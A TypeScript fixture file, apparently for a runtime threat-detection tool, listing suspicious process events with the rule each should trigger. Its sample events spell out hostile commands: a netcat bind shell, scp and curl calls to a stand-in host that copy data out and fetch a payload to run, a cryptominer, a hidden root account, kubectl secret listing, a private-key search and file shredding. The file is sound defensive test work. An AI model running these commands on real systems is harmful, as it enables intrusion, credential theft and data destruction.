import { type SuspiciousAction, wherever } from './action.ts'

const anywhere = ['host', 'container'] as const

/** Programs that start where, or from what, they have no business. */
export const programActions: readonly SuspiciousAction[] = [
  {
    name: 'RunShellInContainer',
    meaning: 'Somebody opens a shell with a terminal in a container.',
    where: ['container'],
    events: [{ exec: '/bin/sh', tty: true, upper: false, ancestors: ['runc'] }],
    rules: { container: ['Shell in container'] },
  },
  {
    name: 'RunShellUntrusted',
    meaning: 'A web server starts a shell.',
    where: anywhere,
    events: [
      { exec: '/bin/sh', args: ['-c', 'id'], user: 'www-data', uid: 33, upper: false, ancestors: ['nginx', 'nginx'] },
    ],
  },
  {
    name: 'PackageManagementProcessLaunched',
    meaning: 'Something is installed in a container that runs.',
    where: ['container'],
    events: [{ exec: '/usr/bin/apt', args: ['install', '-y', 'nmap'], upper: false, ancestors: ['bash'] }],
    rules: { container: ['Package manager in container'] },
  },
  {
    name: 'NetcatRemoteCodeExecution',
    meaning: 'A shell is offered to whoever connects, by netcat.',
    where: anywhere,
    events: [{ exec: '/usr/bin/nc', args: ['-l', '-p', '4444', '-e', '/bin/sh'], upper: false, ancestors: ['bash'] }],
    rules: wherever('Netcat hands out a shell'),
  },
  {
    name: 'LaunchSuspiciousNetworkToolInContainer',
    meaning: 'A tool that looks around in networks starts in a container.',
    where: ['container'],
    events: [{ exec: '/usr/bin/nmap', args: ['-sn', '10.244.0.0/16'], upper: false, ancestors: ['bash'] }],
    rules: { container: ['Network tool in container'] },
  },
  {
    name: 'LaunchRemoteFileCopyToolsInContainer',
    meaning: 'Files of a container are copied to another machine.',
    where: ['container'],
    events: [{ exec: '/usr/bin/scp', args: ['/tmp/dump', 'drop@192.0.2.9:'], upper: false, ancestors: ['bash'] }],
    rules: { container: ['Remote copy in container'] },
  },
  {
    name: 'K8sClientInContainer',
    meaning: 'A client of Kubernetes starts in a container.',
    where: ['container'],
    events: [{ exec: '/usr/local/bin/kubectl', args: ['get', 'secrets', '-A'], upper: false, ancestors: ['bash'] }],
    rules: { container: ['Cluster client in container'] },
  },
  {
    name: 'FilelessExecutionViaMemfd',
    meaning: 'A program is put into memory and started from there, so nothing is left on the disk.',
    where: anywhere,
    events: [
      { memfd: 'payload', by: '/usr/bin/python3 /tmp/load.py', ancestors: ['bash'] },
      { exec: 'memfd:payload', upper: false, ancestors: ['python3', 'bash'] },
    ],
    rules: wherever('Program started from memory'),
  },
  {
    name: 'DropAndExecuteNewBinaryInContainer',
    meaning: 'A program is put into a container that runs, and started.',
    where: ['container'],
    events: [
      {
        create: '/tmp/payload',
        permissions: '0755',
        by: '/usr/bin/curl -o /tmp/payload http://192.0.2.9/x',
        ancestors: ['sh'],
      },
      { exec: '/tmp/payload', upper: true, ancestors: ['sh'] },
    ],
    rules: { container: ['New program started in container'] },
  },
  {
    name: 'ExecutionFromDevShm',
    meaning: 'A program starts that lies in shared memory.',
    where: anywhere,
    events: [{ exec: '/dev/shm/helper', upper: false, ancestors: ['bash'] }],
    rules: wherever('Program started from shared memory'),
  },
  {
    name: 'LaunchMiner',
    meaning: 'A program starts that mines coins for somebody else.',
    where: anywhere,
    events: [
      {
        exec: '/usr/local/bin/xmrig',
        args: ['-o', 'stratum+tcp://pool.minexmr.com:3333'],
        upper: false,
        ancestors: ['sh'],
      },
    ],
    rules: wherever('Miner started'),
  },
  {
    name: 'UserMgmtBinaries',
    meaning: 'A user is added by hand.',
    where: anywhere,
    events: [{ exec: '/usr/sbin/useradd', args: ['-o', '-u', '0', 'backdoor'], upper: false, ancestors: ['bash'] }],
    rules: wherever('Account changed'),
  },
  {
    name: 'RemoveBulkDataFromDisk',
    meaning: 'Files are overwritten so that they cannot be brought back.',
    where: anywhere,
    events: [{ exec: '/usr/bin/shred', args: ['-u', '/var/lib/data.db'], upper: false, ancestors: ['bash'] }],
    rules: wherever('Files wiped'),
  },
  {
    name: 'SearchPrivateKeysOrPasswords',
    meaning: 'Private keys are searched for.',
    where: anywhere,
    events: [{ exec: '/usr/bin/find', args: ['/', '-name', 'id_rsa'], upper: false, ancestors: ['bash'] }],
    rules: wherever('Keys searched'),
  },
  {
    name: 'LaunchPrivilegedContainer',
    meaning: 'The first program of a privileged container starts.',
    where: ['container'],
    events: [
      { exec: '/usr/bin/sleep', args: ['infinity'], privileged: true, upper: false, fields: { 'proc.vpid': 1 } },
    ],
    rules: { container: ['Privileged container started'] },
  },
]
